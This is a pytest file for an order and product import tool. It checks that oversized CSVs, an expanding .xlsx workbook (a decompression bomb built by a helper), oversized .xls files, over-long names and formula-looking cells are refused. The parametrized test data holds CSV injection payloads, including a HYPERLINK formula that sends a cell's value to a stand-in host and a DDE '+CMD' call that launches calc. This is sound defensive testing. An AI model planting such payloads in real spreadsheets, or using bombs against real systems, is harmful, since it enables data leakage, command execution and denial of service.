"""Imports within bounds (issue 22, item 8, the import part): an oversized file and an
expanding workbook are refused in seconds with a bounded peak memory, measured in a
separate process; formula-looking codes and over-long names are refused where entered."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from inspector.core.csvfiles import CsvFileError
from inspector.core.sheets import MAX_WORKBOOK_EXPANDED
from inspector.services.guided import import_orders, import_products, list_orders

ROOT = Path(__file__).resolve().parents[1]
PEAK_MB = 300

# Runs one CLI import in a child and reports its exit status, output and peak memory.
CHILD = """
import resource, subprocess, sys
done = subprocess.run(sys.argv[1:], capture_output=True, text=True)
peak_kb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
print(done.returncode, peak_kb, sep="\\n")
print(done.stdout + done.stderr)
"""


def import_in_a_process(
    data_dir: Path, path: Path, what: str = "orders"
) -> tuple[int, float, str, float]:
    """Exit status, peak resident memory (MB), output and seconds of `inspector orders import`
    (or `products import`)."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    command = [sys.executable, "-m", "inspector", "--data-dir", str(data_dir), what, "import"]
    started = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-c", CHILD, *command, str(path)],
        capture_output=True,
        text=True,
        env=env,
        timeout=300,
    )
    seconds = time.monotonic() - started
    status, peak_kb, output = done.stdout.split("\n", 2)
    return int(status), int(peak_kb) / 1024, output, seconds


def test_a_2_gb_csv_is_refused_at_once_within_the_memory_bound(data_dir, tmp_path) -> None:
    big = tmp_path / "orders.csv"
    with big.open("wb") as fh:
        fh.write(b"order_number,platform,sku,ship_date\nA1,taobao,BG-220,2026-11-01\n")
        fh.truncate(2 * 1024**3)  # sparse: 2 GB as the importer sees it, no disk used
    status, peak, output, seconds = import_in_a_process(data_dir, big)
    assert status == 2, output
    assert "2,147 MB" in output and "Export a shorter period" in output
    assert peak <= PEAK_MB, peak
    print(f"2 GB CSV refused in {seconds:.1f} s, peak {peak:.0f} MB")


def test_a_2_gb_product_list_is_refused_at_once_within_the_memory_bound(data_dir, tmp_path):
    """The product import read the whole file: a 2 GB file peaked at 12.7 GB (issue 22)."""
    big = tmp_path / "products.csv"
    with big.open("wb") as fh:
        fh.write(b"sku,name\nBG-220,Bag\n")
        fh.truncate(2 * 1024**3)  # sparse: 2 GB as the importer sees it, no disk used
    status, peak, output, seconds = import_in_a_process(data_dir, big, "products")
    assert status == 2, output
    assert "2,147 MB" in output and "a product list is at most 21 MB" in output
    assert peak <= PEAK_MB, peak
    print(f"2 GB product list refused in {seconds:.1f} s, peak {peak:.0f} MB")


def expanding_workbook(path: Path, expanded: int) -> Path:
    """An .xlsx whose one sheet inflates to `expanded` bytes from a few hundred kilobytes."""
    chunk = b"<row><c><v>0</v></c></row>" * 40_000
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as book:
        book.writestr("[Content_Types].xml", "<Types/>")
        with book.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            written = 0
            while written < expanded:
                sheet.write(chunk)
                written += len(chunk)
    return path


def test_an_expanding_workbook_is_refused_in_seconds_within_the_memory_bound(
    data_dir, tmp_path
) -> None:
    bomb = expanding_workbook(tmp_path / "orders.xlsx", MAX_WORKBOOK_EXPANDED + 40 * 1024**2)
    assert bomb.stat().st_size < 2 * 1024**2
    status, peak, output, seconds = import_in_a_process(data_dir, bomb)
    assert status == 2, output
    assert "expands to more than" in output and "Save it as CSV" in output
    assert peak <= PEAK_MB, peak
    print(f"expanding workbook refused in {seconds:.1f} s, peak {peak:.0f} MB")


@pytest.fixture
def shop(ctx):
    import_products(ctx, ROOT / "resources" / "sample" / "products.csv")
    return ctx


@pytest.mark.parametrize(
    ("column", "cell"),
    [
        ("order_number", '=HYPERLINK("http://x.example/?a="&A1,"1001")'),
        ("sku", "+CMD|' /C calc'!A0"),
        ("return_courier", "@SUM(1+1)*cmd"),
        ("sku", "-2+3"),
    ],
)
def test_a_formula_looking_code_is_flagged_where_it_is_imported(shop, tmp_path, column, cell):
    header = ["order_number", "platform", "sku", "ship_date", "return_courier"]
    values = {
        "order_number": "TB-1",
        "platform": "taobao",
        "sku": "BG-220",
        "ship_date": "2026-11-02",
        "return_courier": "SF1",
    }
    values[column] = cell
    path = tmp_path / "orders.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([header, [values[h] for h in header]])
    with pytest.raises(CsvFileError) as info:
        import_orders(shop, path)
    problem = info.value.problems[0]
    assert (problem.line, problem.column) == (2, column)
    assert "looks like a spreadsheet formula" in problem.message
    assert list_orders(shop) == []


def test_a_formula_looking_product_code_is_flagged_in_the_products_import(ctx, tmp_path):
    path = tmp_path / "products.csv"
    path.write_text('sku,name\n=HYPERLINK("x"),Bottle\n', encoding="utf-8")
    with pytest.raises(CsvFileError) as info:
        import_products(ctx, path)
    assert "looks like a spreadsheet formula" in str(info.value)


def test_an_over_long_buyer_name_is_refused_not_cut(shop, tmp_path) -> None:
    path = tmp_path / "orders.csv"
    long_name = "b" * 201
    path.write_text(
        f"order_number,platform,buyer,sku,ship_date\nTB-1,taobao,{long_name},BG-220,2026-11-02\n",
        encoding="utf-8",
    )
    with pytest.raises(CsvFileError) as info:
        import_orders(shop, path)
    assert "longer than 200 characters; it is refused, not cut" in str(info.value)
    assert list_orders(shop) == []


def test_an_oversized_old_xls_is_refused_before_it_is_read(shop, tmp_path) -> None:
    from inspector.core.errors import ValidationError
    from inspector.core.sheets import MAX_XLS_BYTES

    old = tmp_path / "orders.xls"
    with old.open("wb") as fh:
        fh.write(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")  # the OLE header an .xls starts with
        fh.truncate(MAX_XLS_BYTES + 1)
    with pytest.raises(ValidationError, match="Export a shorter period"):
        import_orders(shop, old)
